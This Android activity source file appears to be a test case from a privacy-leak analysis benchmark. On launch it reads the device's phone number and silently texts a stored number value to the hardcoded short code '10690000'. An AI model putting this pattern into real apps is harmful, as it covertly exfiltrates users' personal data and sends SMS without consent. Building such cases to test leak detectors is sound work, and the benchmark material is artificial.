package cn.privlens.suite.state_before_replacement;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Store store = new Store();
        State seen = store.state();
        store.update(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number());
        SmsManager.getDefault().sendTextMessage("10690000", null, "T" + seen.tel, null, null);
    }
}
